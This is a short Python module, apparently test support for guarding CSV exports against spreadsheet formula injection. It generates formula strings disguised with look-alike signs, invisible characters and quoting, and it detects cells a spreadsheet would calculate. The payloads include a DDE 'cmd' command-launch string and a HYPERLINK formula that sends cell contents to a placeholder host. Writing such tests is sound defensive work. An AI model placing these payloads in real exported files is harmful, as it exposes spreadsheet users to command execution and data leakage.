"""Texts that a spreadsheet would calculate, and the cells that one makes of a CSV file."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from itertools import product

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
UNSEEN = " \t\r\n\u00a0\u00ad\u034f\u061c\u180e\u200b\u200e\u202e\u2066\u3000\u3164\ufe0f\ufeff"
BEFORE = ("", *UNSEEN, "'", "''", '"', '"""', "\u202e\u200b ")
"""What may stand before a formula; a quotation mark may end, or begin, a cell."""
AROUND = (
    "{}",
    "text;{}",
    "text;;{};",
    "text\t{}",
    "text\n{}",
    "text\r\n\r\n{}",
    'text";{}',
    'text;"{}"',
    "a, {}",
)
"""Where in a text it may stand."""
BODIES = ('HYPERLINK("http://x/?"&A1,"y")', "cmd|' /C calc'!A0", "2+3")
PLAIN = (
    "",
    "tea",
    "It's = 1",
    "'tis",
    "a - b",
    "a; b",
    "1,5",
    '["-a",-1]',
    '{"a": -1}',
    "x\r\n\r\ny",
    "陆羽",
)
"""Texts that need no guard."""
_FORMULA = re.compile(f'[{UNSEEN}"]*[{re.escape(SIGNS)}]|[\t\r]')
_NUMBER = re.compile(r"-\d+(\.\d+)?(e-?\d+)?")


def formulas() -> Iterator[str]:
    """Every sign, behind everything that hides it, everywhere in a text."""
    for number, (sign, before, around) in enumerate(product(SIGNS, BEFORE, AROUND)):
        yield around.format(before + sign + BODIES[number % len(BODIES)])


def calculated(content: str) -> list[str]:
    """The cells that a spreadsheet might calculate, whichever separator it takes; numbers are none."""
    return [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
        for cell in row
        if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell)
    ]
